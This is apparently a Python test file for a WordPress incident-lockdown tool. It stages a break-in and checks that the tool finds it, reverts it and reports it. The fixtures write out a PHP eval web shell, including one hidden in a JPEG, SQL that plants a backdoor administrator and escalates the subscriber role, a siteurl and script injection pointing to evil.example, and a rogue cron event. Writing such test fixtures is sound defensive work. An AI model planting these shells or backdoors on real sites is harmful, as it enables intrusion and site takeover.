"""A site that was broken into: shut and told of, with nothing of its code at work."""

import hashlib
import json
from datetime import UTC, datetime
from http import HTTPStatus
from typing import Any

from tests.runtime.conftest import MakeSite
from tests.runtime.stage.bucket import NAME, Bucket
from tests.runtime.stage.container import wait_until
from tests.runtime.stage.data import begun, ended, run
from tests.runtime.stage.site import Replica, StagedSite

SHELL = "<?php eval($_POST['x']);"
# What is left by who came in by a plugin's hole.
BROKEN_INTO = """
INSERT INTO wp_users (user_login, user_pass, user_email, user_registered) VALUES
  ('wp_support', '{hash}', 'eve@evil.example', UTC_TIMESTAMP());
INSERT INTO wp_usermeta (user_id, meta_key, meta_value) SELECT ID, 'wp_capabilities',
  'a:1:{s:13:"administrator";b:1;}' FROM wp_users WHERE user_login = 'wp_support';
INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (1, '_application_passwords',
  'a:1:{i:0;a:2:{s:4:"name";s:3:"bot";s:8:"password";s:1:"x";}}');
UPDATE wp_options SET option_value = 'https://evil.example' WHERE option_name = 'siteurl';
UPDATE wp_options SET option_value = REPLACE(option_value,
  's:10:"subscriber";a:2:{s:4:"name";s:10:"Subscriber";s:12:"capabilities";a:2:{',
  's:10:"subscriber";a:2:{s:4:"name";s:10:"Subscriber";s:12:"capabilities";a:3:{'
  's:14:"manage_options";b:1;') WHERE option_name = 'wp_user_roles';
UPDATE wp_options SET option_value =
  'a:2:{i:1900000000;a:1:{s:12:"wp_refresher";a:1:{s:1:"x";a:2:{s:8:"schedule";b:0;'
  's:4:"args";a:1:{i:0;s:4:"evil";}}}}s:7:"version";i:2;}'
  WHERE option_name = 'cron';
UPDATE wp_posts SET post_modified_gmt = UTC_TIMESTAMP(),
  post_content = '<script src="//evil.example"></script>' WHERE ID = 1;
CREATE TRIGGER comes_again AFTER INSERT ON wp_comments FOR EACH ROW SET @x = 1;
""".replace("{hash}", hashlib.md5(b"mine", usedforsecurity=False).hexdigest())


def broken_into(site: StagedSite, replica: Replica) -> None:
    site.sql(BROKEN_INTO)
    (site.mount / "uploads/2026").mkdir(parents=True, exist_ok=True)
    (site.mount / "uploads/index.php").write_text("<?php // Silence is golden.\n")
    (site.mount / "uploads/2026/shell.php").write_text(SHELL)
    (site.mount / "uploads/2026/picture.jpg").write_bytes(b"\xff\xd8" + SHELL.encode())
    (site.mount / "uploads/2026/honest.jpg").write_bytes(b"\xff\xd8 a picture")
    site.seen(replica, "plugins/forms/shell.php").write_text(SHELL)
    generations = site.mount / ".fleet/generations"
    before = len(list(generations.iterdir()))
    wait_until(lambda: len(list(generations.iterdir())) > before, "the task keeps it", 60)


def report(store: Bucket, site: str, part: str) -> dict[str, Any]:
    (key,) = [each for each in store.keys(f"{site}/lockdowns/") if each.endswith(f"-{part}.json")]
    return json.loads(store.client.get_object(Bucket=NAME, Key=key)["Body"].read())


def check_what_is_told(told: dict[str, Any]) -> None:
    found = {(each["kind"], each["name"]): each["what"] for each in told["findings"]}
    # What was shut before it was killed is so; what it had not told is told now.
    assert ("file", "uploads/2026/shell.php") in found
    assert "holds code" in found["file", "uploads/2026/picture.jpg"]
    assert ("file", "uploads/2026/honest.jpg") not in found
    assert ("file", "uploads/index.php") not in found
    assert found["option", "siteurl"].startswith("https://evil.example, and the site's address is")
    assert "evil" in found["event", "wp_refresher"]
    assert "holds a script" in found["post", "post 1"]
    assert found["sql", "comes_again"] == "is a trigger of the database"
    assert "registered" in found["user", "wp_support"]
    assert told["code"].startswith("generation ")


def test_it_is_shut_and_told_of(make_site: MakeSite, store: Bucket) -> None:
    knobs = {"FLEET_PAGE_CACHE": "off", "FLEET_CODE_CHECK_SECONDS": "1"}
    site = make_site(name="broken-into", knobs=knobs)
    (site.mount / "plugins/forms").mkdir(parents=True)
    (site.mount / "plugins/forms/forms.php").write_text("<?php /* Plugin Name: Forms */")
    replica = site.replica()
    then = datetime.now(UTC).isoformat()
    place = store.place("broken-into", 1)
    words = ["fleet-lockdown", "--keep", "admin", "--since", then, "--code-back-to", then]
    words += ["--report", place, "--part"]
    with site.visitor(replica) as admin, site.visitor(replica) as eve:
        admin.log_in()
        broken_into(site, replica)
        assert eve.log_in("wp_support", "mine").status_code == HTTPStatus.FOUND
        unknown = ended(run(site, store, *words, "none", "--keep", "nobody"), 65)[-1]
        assert (
            "no administrator is called nobody; there are admin, wp_support" in unknown["problem"]
        )
        killed = run(site, store, *words, "killed")
        begun(killed, "code")
        killed.kill()
        ended(run(site, store, *words, "after"))
        for visitor in (admin, eve):
            assert visitor.get("/wp-admin/").status_code == HTTPStatus.FOUND, "to the login"
        assert eve.log_in("wp_support", "mine").status_code == HTTPStatus.OK, "the form again"
        assert admin.log_in().status_code == HTTPStatus.FOUND
        assert admin.get("/wp-admin/plugins.php").status_code == HTTPStatus.OK
    shell = site.seen(replica, "plugins/forms/shell.php")
    wait_until(lambda: not shell.exists(), "the task has the code of then", 60)
    assert site.seen(replica, "plugins/forms/forms.php").exists()
    passwords = "SELECT COUNT(*) FROM wp_usermeta WHERE meta_key = '_application_passwords'"
    assert site.sql(passwords) == "0"
    roles = "SELECT option_value FROM wp_options WHERE option_name = 'wp_user_roles'"
    assert "manage_options" not in site.sql(roles).partition("Subscriber")[2]
    check_what_is_told(report(store, "broken-into", "after"))


def test_a_login_is_opened_again(make_site: MakeSite, store: Bucket) -> None:
    site = make_site(name="shut-and-opened")
    site.init()
    site.sql(BROKEN_INTO)
    words = ["--keep", "wp_support", "--since", "2026-11-01T00:00:00Z"]
    told = run(site, store, "wp", "fleet", "lock", *words)
    assert told.wait() == 0, told.output()
    (said,) = [line for line in told.output().splitlines() if line.startswith('{"time')]
    assert json.loads(said)["off"] == ["admin"]
    role = "SELECT meta_value FROM wp_usermeta WHERE user_id = 1 AND meta_key = 'wp_capabilities'"
    assert site.sql(role) == "a:0:{}"
    ended(run(site, store, "wp", "fleet", "lock", "open", "admin"))
    assert "administrator" in site.sql(role)
    (*_, again) = ended(run(site, store, "wp", "fleet", "lock", "open", "admin"), 65)
    assert again["problem"] == "the login of admin is not off"
    set_anew = site.run("init", ["fleet-init", "admin", "wp_support"])
    assert set_anew.wait() == 0
    assert "wp_support has a new password" in set_anew.output()
